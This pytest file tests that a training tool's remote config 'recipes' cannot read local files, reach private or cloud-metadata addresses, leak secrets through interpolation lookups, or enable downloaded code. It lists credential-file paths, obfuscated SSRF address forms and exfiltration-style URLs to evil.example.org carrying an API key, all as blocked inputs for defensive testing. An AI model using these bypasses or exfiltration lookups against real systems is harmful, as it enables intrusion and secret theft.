"""What a recipe from elsewhere may open, and that nothing of whoever runs it gets into what it opens."""

import socket

import fsspec
import pytest

from dtrain.__main__ import main
from dtrain.compose import compose
from dtrain.errors import WordsError
from dtrain.recipe.fetch import is_private, refusal
from dtrain.recipe.locate import Place, find

BESIDE = "https://recipes.example.org/a/mine.yaml"
FILES = (
    "/etc/passwd", " /etc/passwd", "~/.ssh/id_rsa", "~root/x", "./x", "../x", "a/../../x", "..", "\\\\server\\share", "C:\\Users", "c:/Users", "file:///etc/passwd",
    "file:/etc/passwd", "FILE:///etc/passwd", "local:///etc/passwd", "ssh://host/x", "sftp://host/x", "ftp://host/x", "git://x", "dir://x", "reference://x", "zip://x.zip",
    "simplecache::https://recipes.example.org/x", "https://recipes.example.org/x::file:///etc/passwd", "https://recipes.example.org/a,file:///etc/passwd", "data.csv", "secret/*",
)  # fmt: skip
HOSTS = (
    "127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0177.0.0.1", "10.0.0.5", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "[::1]", "[::]",
    "[fe80::1]", "[fd00::1]", "[::ffff:10.0.0.1]", "[64:ff9b::a00:1]", "localhost", "LOCALHOST.", "x.localhost", "metadata", "metadata.google.internal", "printer.local", "224.0.0.1",
    "\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021", "%31%32%37.0.0.1",
)  # fmt: skip
KEYS = ("data.path", "data.holdout_path", "data.dataset.root", "model.file", "init", "data.dataset.0.url")


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("value", FILES)
def test_no_file_of_this_machine(key: str, value: str) -> None:
    assert refusal(key, value, BESIDE)


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize(
    "form",
    [
        "http://{}/x",
        "https://{}:8080/x",
        "http://user@{}/",
        "HTTP://{}",
        "http:/{}/x",
        "https://recipes.example.org/x,http://{}/y",
        "http:\\\\{}/x",
    ],
)
def test_no_address_of_this_machine_or_its_network(host: str, form: str) -> None:
    for key in ("data.path", "logger.mine.anything", "data.storage_options.endpoint_url"):
        assert refusal(key, form.format(host), BESIDE)


@pytest.mark.parametrize("value", ["169.254.169.254", "10.0.0.1:9000", "localhost:8080", "[::1]:80/x"])
def test_no_address_without_a_scheme(value: str) -> None:
    assert refusal("logger.mine.host", value, BESIDE)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("data.path", "stdlib"), ("data.tokenizer", "bytes"), ("data.tokenizer", "meta-llama/Llama-3.2-1B"), ("data.path", "https://example.org/a.txt"), ("data.path", "s3://bucket/*.txt"),
        ("data.path", "https://8.8.8.8/x"), ("data.path", "https://[2606:4700::1111]/x"), ("generate.prompt", "/r/x: see http://localhost"), ("model.name", "a/b"), ("init", "gs://b/run"),
        ("model.version", "1.2.3"), ("data.dataset.text", "~ as it is ~"), ("model.activation", "gelu"), ("data.path", "https://recipes.example.org/b.txt"), ("data.dtype", "uint16"),
        ("objective.note", "12:30, 3::4"),
    ],
)  # fmt: skip
def test_what_is_public_is_open(key: str, value: str) -> None:
    assert refusal(key, value, BESIDE) is None


def test_the_host_of_a_recipe_is_open_to_it() -> None:
    assert refusal("data.path", "http://10.0.0.5:80/x", "http://10.0.0.5:80/mine.yaml") is None
    assert refusal("data.path", "http://10.0.0.5:81/x", "http://10.0.0.5:80/mine.yaml"), (
        "another port is another server"
    )
    assert find("base.yaml", Place("http://10.0.0.5/mine.yaml", "remote")).url == "http://10.0.0.5/base.yaml"
    with pytest.raises(WordsError, match="cannot build on"):
        find("http://10.0.0.6/base.yaml", Place("http://10.0.0.5/mine.yaml", "remote"))
    with pytest.raises(WordsError, match="cannot build on"):
        find("ssh://other/base.yaml", Place("ssh://host/mine.yaml", "remote"))


def test_a_name_is_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    """A public name may lead inside."""
    answers = {"inside.example.org": "169.254.169.254", "outside.example.org": "93.184.216.34"}

    def answer(host: str, port: object) -> list[object]:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (answers[host], 0))]

    monkeypatch.setattr(socket, "getaddrinfo", answer)
    far = Place("https://outside.example.org/mine.yaml", "remote")
    assert find("https://outside.example.org/base.yaml", far).trust == "remote"
    with pytest.raises(WordsError, match="cannot build on"):
        find("https://inside.example.org/base.yaml", far)
    assert (
        compose([remote("data: {path: 'http://outside.example.org/a'}")]).data["path"] == "http://outside.example.org/a"
    )
    with pytest.raises(WordsError, match=r"cannot reach inside\.example\.org"):
        compose([remote("data: {path: 'http://inside.example.org/a'}")])


def remote(text: str) -> str:
    fsspec.filesystem("memory").pipe_file("/reach/mine.yaml", text.encode())
    return "recipe=memory://reach/mine.yaml"


# what is looked up

SECRET, PRIVATE = "hunter2-of-this-machine", "the-name-of-the-patient"
TYPED = (
    "logger.mine._target_=dtrain.logger.console.Console", f"logger.mine.api_key={SECRET}", f"logger.mine.note=note-{SECRET}", f"data.path=/home/{PRIVATE}", "model.pin=48151623",
    f"generate.prompt={PRIVATE}", f"model.name={PRIVATE}", f"data.names=[{PRIVATE}]", f"model.inner={{deep:{PRIVATE}}}", f"init=runs/{PRIVATE}", "model.size=48151623",
)  # fmt: skip
LOOKUPS = (
    "${logger.mine.api_key}", "${logger.mine.note}", "${logger.mine}", "${logger}", "${data.path}", "${data}", "${generate.prompt}", "${generate}", "${model.name}", "${model}",
    "${data.names}", "${model.inner.deep}", "${model.inner}", "${init}", "${model.pin}", "${model.size}", "${ logger.mine.api_key }", "${.api_key}", "${..mine.api_key}",
    "${logger[mine].api_key}", "${logger.mine[api_key]}", "${oc.select:logger.mine.api_key}", "${oc.env:CANARY}", "${oc.env:CANARY,x}", "${oc.decode:${oc.env:CANARY}}",
    "${oc.dict.values:logger.mine}", "${oc.create:${logger}}", "${oc.deprecated:logger.mine.api_key}", "${oc.load:/etc/passwd}", "${logger.${model.a}.api_key}", "${secret:logger.mine.api_key}",
    "\\${logger.mine.api_key}", "$${logger.mine.api_key}", "${out}", "${trust}", "${hydra:runtime.cwd}", "${now:%Y}", "${data.names.0}", "${generate.prompt}${generate.prompt}", "${eval:1}",
)  # fmt: skip
"""Forty ways to what a person typed, the environment, or this machine."""


@pytest.mark.parametrize("lookup", LOOKUPS)
def test_nothing_of_a_person_is_looked_up(
    lookup: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert len(set(LOOKUPS)) == 40
    monkeypatch.setenv("CANARY", SECRET)
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_: pytest.fail("nobody is asked for a name that was refused"))
    for group in ("model", "data"):
        word = remote(f"{group}: {{_target_: torch.nn.Linear, note: 'http://evil.example.org/{lookup}'}}\n")
        assert main(["plan", word, *TYPED]) == 2
        printed = "".join(capsys.readouterr())
        assert f"{group}.note=" in printed and "a recipe from elsewhere may not" in printed
        assert not any(private in printed for private in (SECRET, f"evil.example.org/{PRIVATE}", "org/48151623")), (
            printed
        )


def test_what_recipes_set_is_looked_up() -> None:
    word = remote(
        "model: {width: 96, heads: 4, layers: 2}\noptim: {lr: 0.5}\nschedule: {warmup: '${model.width}'}\nseed: '${model.layers}'\nclip: '${log.every}'\n"
    )
    config = compose([word, "model.layers=3"])
    assert (config.schedule["warmup"], config.seed, config.clip) == (96, 3, config.log.every), (
        "a number may be typed in place of one of the recipe's"
    )


def test_what_a_look_up_makes_is_judged_whole() -> None:
    for first, second in (
        ("", "${model.a}/etc/passwd"),
        ("file", "${model.a}:///etc/passwd"),
        ("169.254", "http://${model.a}.169.254/"),
    ):
        with pytest.raises(WordsError, match="a recipe from elsewhere cannot"):
            compose([remote(f"data: {{column: '{first}', path: '{second.replace('model.a', 'data.column')}'}}")])
    with pytest.raises(WordsError, match=r"model\.b .*may not give a path or URL to code"):
        compose(
            [remote("data: {path: 'https://93.184.216.34/a'}\nmodel: {_target_: torch.nn.Linear, b: '${data.path}'}")]
        )


def test_a_choice_that_is_made_again_lets_nothing_through() -> None:
    with pytest.raises(WordsError, match=r"data\.cache cannot come from a recipe from elsewhere"):
        compose([remote("data: text\ndata.cache: /home\n"), "data=text"])


def test_small_words_look_up_nothing() -> None:
    with pytest.raises(WordsError, match="plain values alone"):
        compose([remote("expect: {loss: [0, 1], small: ['data.path=http://evil.example.org/${logger.mine.api_key}']}")])
    with pytest.raises(WordsError, match="cannot bring code to hook"):
        compose([remote("expect: {loss: [0, 1], small: ['hook.x={_target_:mypkg.Evil}']}")])


@pytest.mark.parametrize(
    "words",
    [
        "trust_remote_code: true",
        "trust_remote_code: 1",
        "allow_pickle: true",
        "weights_only: false",
        "attn_implementation: org/kernel",
        "config: {trust_remote_code: 'yes'}",
    ],
)
def test_no_downloaded_code(words: str) -> None:
    with pytest.raises(WordsError, match="cannot run downloaded code"):
        compose(
            [remote(f"model: {{_target_: transformers.AutoModel.from_pretrained, {words}}}"), "trust=[transformers]"]
        )


def test_is_private() -> None:
    assert not is_private("example.org") and not is_private("8.8.8.8") and is_private("") and is_private("10.1.2.3")
